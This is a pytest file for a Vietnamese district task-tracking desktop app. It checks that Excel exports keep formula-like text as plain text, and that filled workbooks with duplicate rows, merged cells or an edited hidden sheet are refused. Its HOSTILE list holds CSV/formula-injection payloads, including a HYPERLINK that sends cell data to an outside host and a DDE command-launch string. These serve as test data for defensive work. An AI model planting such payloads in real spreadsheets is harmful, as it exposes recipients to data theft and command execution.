"""Workbooks with hostile text or a careless layout: the app never writes a formula, and a filled workbook
that would lose or double an entry is refused with the place named."""

from __future__ import annotations

from datetime import date, timedelta

import openpyxl
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from ntm_desktop.errors import UserError, ValidationError
from ntm_desktop.models import Directive, ProgressUpdate, Task, Unit
from ntm_desktop.reports.request import ReportKind
from ntm_desktop.services import settings
from ntm_desktop.services.tasks import TaskInput, create_task
from ntm_desktop.sync.excel_template import (
    CRITERIA_SHEET, ID_SHEET, SHEET, export_template, import_template, preview_template,
)
from ntm_desktop.sync.reader import PackageRefused

from reports_helpers import make
from test_sync_world import build_district, state

# Text an officer (or a package) may put in any field, each of which a spreadsheet would run as a formula.
HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")', "+1", "-1", "@x", "\t=1+1", "=1+1",
           "-2+3", "=cmd|' /C calc'!A0"]


def formula_cells(path) -> list[str]:
    """Every cell of every sheet (the hidden ones too) that a spreadsheet would compute."""
    found = []
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return found


def text_cells(path) -> dict[str, str]:
    return {c.value: c.data_type for sheet in openpyxl.load_workbook(path).worksheets
            for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}


@pytest.fixture
def district(tmp_path):
    ws = build_district(tmp_path)
    yield ws
    ws.close()


def _hostile_tasks(ws, code: str = "XA-A") -> None:
    """Tasks of commune XA-A whose summaries, and a directive whose subject, look like formulas."""
    with ws.db.transaction("văn thư") as s:
        unit_id = s.scalar(select(Unit.id).where(Unit.code == code))
        directive = s.scalars(select(Directive)).first()
        directive.subject = HOSTILE[0]
        directive.number_symbol = "-15/KH-UBND"
        for n, text in enumerate(HOSTILE):
            task_id = create_task(s, TaskInput(directive_id=directive.id, summary=f"Nhiệm vụ {n}",
                                               lead_unit_id=unit_id, deadline_text=f"@{n} trước ngày 30/6/2025"))
            s.get(Task, task_id).summary = text  # as a package may bring it, leading tab included


def _template(ws, tmp_path, code="XA-A", year=2025):
    with ws.db.transaction() as s:
        return export_template(s, code, year, tmp_path / f"bieu-mau-{code}-{year}.xlsx")


# --- the template sent to communes


def test_template_texts_that_look_like_formulas_stay_text(district, tmp_path):
    _hostile_tasks(district)
    path = _template(district, tmp_path)
    assert formula_cells(path) == []
    cells = text_cells(path)
    for text in HOSTILE:  # each kept as the officer wrote it (surrounding white space trimmed), as a text cell
        assert cells.get(text.strip()) == "s", (text, cells.get(text.strip()))
    sheet = load_workbook(path)[SHEET]
    for text in ("=1+1", HOSTILE[0], "+1", "-1", "@x"):
        cell = next(c for row in sheet.iter_rows() for c in row if c.value == text)
        assert cell.quotePrefix, text  # Excel keeps it text even when the commune edits the cell


def test_a_leading_tab_before_an_equals_sign_is_never_a_formula(tmp_path):
    """The reports' writer trims the tab; what is left begins with "=" and is written as quoted text."""
    from openpyxl import Workbook

    from ntm_desktop.reports.xlsx_layout import write

    book = Workbook()
    for row, text in enumerate(["\t=1+1", " \t=SUM(A1:A3)", "\u00a0=1+1", "\n@x"], start=1):
        write(book.active, row, 1, text)
    book.save(tmp_path / "tab.xlsx")
    assert formula_cells(tmp_path / "tab.xlsx") == []
    cells = [c for row in load_workbook(tmp_path / "tab.xlsx").active.iter_rows() for c in row]
    assert [c.value for c in cells] == ["=1+1", "=SUM(A1:A3)", "=1+1", "@x"]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_a_filled_template_with_such_texts_is_accepted(district, tmp_path):
    """The commune did nothing wrong: the texts came from the district, so the workbook must be accepted."""
    _hostile_tasks(district)
    path = _template(district, tmp_path)
    book = load_workbook(path)
    sheet = book[SHEET]
    rows = {sheet.cell(r, 3).value: r for r in range(4, sheet.max_row + 1)}
    sheet.cell(rows[HOSTILE[0]], 6).value = "Đã gửi đường dẫn cho các thôn"
    sheet.cell(rows["=1+1"], 6).value = "\t=2+2 là chữ"
    book.save(path)
    result = import_template(district, path, "XA-A", 2025, user="văn thư")
    assert result.status == "applied", result.message
    with district.db.transaction() as s:
        texts = sorted(u.text for u in s.scalars(select(ProgressUpdate)))
    assert texts == sorted(["Đã gửi đường dẫn cho các thôn", "=2+2 là chữ"])


def test_control_characters_in_a_summary_do_not_break_the_template(district, tmp_path):
    with district.db.transaction() as s:
        s.scalars(select(Task)).first().summary = "Rà soát\x07 tiêu chí\x1b số 1"
    path = _template(district, tmp_path)
    assert "Rà soát tiêu chí số 1" in text_cells(path)


def test_criteria_sheet_texts_stay_text(district, tmp_path):
    from test_sync_excel import _criteria_world

    _criteria_world(district)
    from ntm_desktop.models import Criterion

    with district.db.transaction() as s:
        for criterion, text in zip(s.scalars(select(Criterion)), ("=1+1", "@SUM(A1)")):
            criterion.name = text
    path = _template(district, tmp_path, year=2026)
    assert formula_cells(path) == []
    assert text_cells(path).get("=1+1") == "s" and text_cells(path).get("@SUM(A1)") == "s"


# --- every report the runner writes as Excel


def test_no_excel_report_holds_a_formula(demo_workspace, tmp_path):
    ws = demo_workspace
    with ws.db.transaction("văn thư") as s:
        office = settings.office_unit_id(s)
        for directive, text in zip(s.scalars(select(Directive).order_by(Directive.arrival_number)), HOSTILE):
            directive.subject, directive.notes, directive.recipients = text, text, text
            directive.issuer_name, directive.number_symbol = text, text
        for task, text in zip(s.scalars(select(Task).order_by(Task.id)), HOSTILE * 50):
            task.summary, task.reply_number = text, text
        lead = s.scalars(select(Unit).where(Unit.code == "LC-SNNMT")).one()
        lead.name = HOSTILE[-1]
        s.get(Unit, office).short_name = "=1+1"
    start, end = date.today() - timedelta(days=400), date.today() + timedelta(days=400)
    written = []
    for kind in ReportKind:
        extra = {"unit_code": "LC-SNNMT"} if kind == ReportKind.UNIT else {}
        try:
            out = make(ws, kind.value, "xlsx", tmp_path / f"{kind.value}.xlsx", start=start, end=end, **extra)
        except UserError as error:
            assert kind == ReportKind.CRITERIA, f"{kind}: {error}"
            continue
        written.append(kind)
        assert formula_cells(out) == [], kind
        cells = text_cells(out)
        assert any(text.startswith(("=", "+", "-", "@", "\t=")) for text in cells), kind  # the texts are there
    assert {ReportKind.WEEKLY, ReportKind.REGISTER, ReportKind.FOLLOWUP, ReportKind.UNIT} <= set(written)


def test_criteria_set_template_keeps_group_names_as_text(tmp_path):
    from ntm_desktop.services.criteria.xlsx_template import write_template

    path = write_template(tmp_path / "mau.xlsx", ["=1+1", "+Nhóm 2", "@Nhóm 3"])
    assert formula_cells(path) == []
    assert text_cells(path).get("=1+1") == "s"


# --- filled workbooks that would lose or double an entry


def _two_tasks(ws) -> None:
    with ws.db.transaction("văn thư") as s:
        unit_id = s.scalar(select(Unit.id).where(Unit.code == "XA-A"))
        directive = s.scalars(select(Directive)).first()
        create_task(s, TaskInput(directive_id=directive.id, summary="Rà soát tiêu chí số 2 của xã A",
                                 lead_unit_id=unit_id, deadline_text="trước ngày 30/9/2025"))


def test_the_same_task_on_two_rows_is_refused_naming_both_rows(district, tmp_path):
    path = _template(district, tmp_path)
    book = load_workbook(path)
    sheet = book[SHEET]
    for col in range(1, 9):
        sheet.cell(5, col).value = sheet.cell(4, col).value  # the commune copied the row to report twice
    sheet["F4"], sheet["F5"] = "Đã rà soát", "Đã rà soát lần hai"
    book.save(path)
    before = state(district)
    for attempt in (preview_template, import_template):
        with pytest.raises(PackageRefused) as refused:
            attempt(district, path, "XA-A", 2025)
        assert "Dòng 5" in str(refused.value) and "dòng 4" in str(refused.value)
    assert state(district) == before


@pytest.mark.parametrize("key, value", [("year", "năm 2025"), ("year", "2025.5"), ("template_version", "hai"),
                                        ("year", None)])
def test_an_edited_hidden_sheet_is_refused_with_a_message(district, tmp_path, key, value):
    path = _template(district, tmp_path)
    book = load_workbook(path)
    ident = book[ID_SHEET]
    row = next(r for r in range(1, ident.max_row + 1) if ident.cell(r, 1).value == key)
    ident.cell(row, 2).value = value
    book[SHEET]["F4"] = "Đang làm"
    book.save(path)
    before = state(district)
    with pytest.raises(PackageRefused) as refused:
        import_template(district, path, "XA-A", 2025)
    assert "Trang ẩn của biểu mẫu đã bị sửa" in str(refused.value) or "năm" in str(refused.value)
    assert key in str(refused.value) or "năm" in str(refused.value)
    assert state(district) == before


def test_a_text_year_in_the_hidden_sheet_names_the_problem(district, tmp_path):
    path = _template(district, tmp_path)
    book = load_workbook(path)
    ident = book[ID_SHEET]
    row = next(r for r in range(1, ident.max_row + 1) if ident.cell(r, 1).value == "year")
    ident.cell(row, 2).value = "hai nghìn"
    book.save(path)
    with pytest.raises(PackageRefused, match="Trang ẩn của biểu mẫu đã bị sửa.*year.*hai nghìn"):
        import_template(district, path, "XA-A", 2025)


@pytest.mark.parametrize("cells", ["F4:F5", "A4:A5", "E4:F4", "G4:H5"])
def test_merged_cells_where_values_are_read_are_refused_naming_them(district, tmp_path, cells):
    _two_tasks(district)
    path = _template(district, tmp_path)
    book = load_workbook(path)
    sheet = book[SHEET]
    sheet["F4"], sheet["F5"] = "Đã rà soát", "Đang rà soát"
    sheet.merge_cells(cells)  # what stays visible is the first cell's value
    book.save(path)
    before = state(district)
    with pytest.raises(PackageRefused) as refused:
        import_template(district, path, "XA-A", 2025)
    assert cells in str(refused.value) and "gộp" in str(refused.value)
    assert state(district) == before


def test_merged_cells_only_in_the_columns_shown_for_information_are_fine(district, tmp_path):
    _two_tasks(district)
    path = _template(district, tmp_path)
    book = load_workbook(path)
    sheet = book[SHEET]
    sheet.merge_cells("B4:B5")  # one directive for both tasks, merged for looks
    sheet["F4"], sheet["F5"] = "Đã rà soát", "Đang rà soát"
    book.save(path)
    assert import_template(district, path, "XA-A", 2025).status == "applied"
    with district.db.transaction() as s:
        assert len(s.scalars(select(ProgressUpdate)).all()) == 2  # neither entry dropped


def test_the_same_criterion_on_two_rows_is_refused(district, tmp_path):
    from test_sync_excel import _criteria_rows, _criteria_world

    _criteria_world(district)
    path = _template(district, tmp_path, year=2026)
    row = _criteria_rows(path)["18"]
    book = load_workbook(path)
    sheet = book[CRITERIA_SHEET]
    for col in range(1, 10):
        sheet.cell(row + 1, col).value = sheet.cell(row, col).value
    sheet.cell(row, 8).value, sheet.cell(row + 1, 8).value = "Đạt", "Chưa đạt"
    book.save(path)
    before = state(district)
    with pytest.raises(PackageRefused, match=f"Dòng {row + 1}.*dòng {row}"):
        import_template(district, path, "XA-A", 2026)
    assert state(district) == before


# --- the province's criteria set workbook


def test_a_criterion_code_merged_down_its_indicators_is_read_on_each_row(db, tmp_path):
    from test_criteria_import import build

    from ntm_desktop.services.criteria import catalogue
    from ntm_desktop.services.criteria.xlsx_import import import_set

    path = build(tmp_path / "gop.xlsx", indicators=[
        ["8", "8.1", "Tỷ lệ hộ dùng nước sạch", "%", "số", ">=", 90, 85, 80],
        [None, "8.2", "Tỷ lệ chất thải rắn được thu gom", "%", "số", ">=", 95, 90, 85],
        [None, "8.3", "Tỷ lệ hộ có nhà tiêu hợp vệ sinh", "%", "số", ">=", 90, "85", "70,5"],
        ["1", "1.1", "Có quy hoạch chung xây dựng xã", "", "chữ", "=", "Đạt", "Đạt", "Đạt"],
    ])
    book = load_workbook(path)
    book["Chỉ tiêu"].merge_cells("A2:A4")
    book.save(path)
    with db.transaction() as s:
        result = import_set(s, path)
        assert result.indicators == 4  # none dropped
        codes = {i.code for i in catalogue.indicators_of(s, result.set_id)}
    assert codes == {"8.1", "8.2", "8.3", "1.1"}


def test_criteria_set_cells_merged_across_columns_are_refused_naming_them(db, tmp_path):
    from test_criteria_import import build

    from ntm_desktop.services.criteria.xlsx_import import import_set

    path = build(tmp_path / "gop-ngang.xlsx")
    book = load_workbook(path)
    book["Chỉ tiêu"].merge_cells("G2:I2")  # one target typed across three groups
    book.save(path)
    with pytest.raises(ValidationError) as refused:
        with db.transaction() as s:
            import_set(s, path)
    assert "G2:I2" in str(refused.value) and "gộp" in str(refused.value)
